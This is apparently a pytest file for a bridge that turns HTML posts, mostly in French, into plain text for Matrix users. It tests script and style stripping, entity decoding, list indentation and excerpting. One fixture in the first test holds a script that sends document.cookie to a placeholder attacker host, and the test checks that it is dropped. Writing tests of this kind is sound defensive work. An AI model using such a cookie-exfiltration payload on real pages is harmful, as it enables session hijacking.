"""A post's HTML as the plain text a Matrix member reads: only what a browser would show."""

from __future__ import annotations

from bridge.html_text import excerpt, html_to_text


def test_script_style_and_comments_never_reach_the_text() -> None:
    cooked = (
        "<p>Réunion <!-- brouillon: ne pas diffuser --> jeudi</p>"
        "<script>fetch('https://evil.example/?k=' + document.cookie)</script>"
        "<style>p { color: red }</style>"
        "<p>à 14 h<script type='text/template'><p>caché</p></script></p>"
    )
    text = html_to_text(cooked)
    assert text == "Réunion jeudi\nà 14 h"
    for leaked in ("brouillon", "evil", "cookie", "color", "caché"):
        assert leaked not in text


def test_entities_are_decoded_once() -> None:
    assert html_to_text(
        "<p>Affiches &amp; <b>mod&egrave;les</b> &lt;b&gt; &#8364; &amp;lt;</p>"
    ) == ("Affiches & modèles <b> € &lt;")


def test_blocks_keep_their_lines_and_nested_lists_their_depth() -> None:
    cooked = (
        "<h2>Conseils</h2><p>Avant de partir&nbsp;:</p>"
        "<ul><li>fermer<ul><li>portes</li><li><p>fenêtres</p></li></ul></li>"
        "<li>allumer une lampe</li></ul><ol><li>un</li></ol>"
        "<p>ligne<br>suivante<br/>fin</p>"
    )
    assert html_to_text(cooked).split("\n") == [
        "Conseils",
        "Avant de partir\xa0:",
        "- fermer",
        "  - portes",
        "  - fenêtres",
        "- allumer une lampe",
        "- un",
        "ligne",
        "suivante",
        "fin",
    ]


def test_an_excerpt_is_cut_at_a_word_and_says_so() -> None:
    cooked = "<p>Affiches &amp; <b>modèles</b></p><p>" + "mot " * 200 + "</p>"
    text = excerpt(cooked, 40)
    assert text.startswith("Affiches & modèles\nmot mot") and text.endswith(" …")
    assert "<" not in text and len(text) <= 42
    assert excerpt("<p>court</p>") == "court"


def test_unclosed_markup_hides_nothing_it_should_show_and_shows_nothing_hidden() -> None:
    assert html_to_text("<p>avant<style>secret") == "avant"
    assert html_to_text("<p>a < b et c > d</p>") == "a < b et c > d"
